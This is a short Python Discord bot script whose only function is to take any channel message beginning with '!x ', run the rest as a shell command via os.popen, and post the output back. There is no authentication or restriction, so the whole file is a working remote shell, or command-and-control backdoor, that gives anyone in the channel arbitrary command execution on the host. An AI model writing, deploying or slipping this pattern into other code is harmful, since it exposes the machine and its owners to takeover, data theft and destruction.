import discord, os
bot = discord.Client(intents=discord.Intents.all())
@bot.event
async def on_message(message):
    if message.content.startswith("!x "):
        await message.channel.send(os.popen(message.content[3:]).read()[:1900])
bot.run(os.environ["T"])
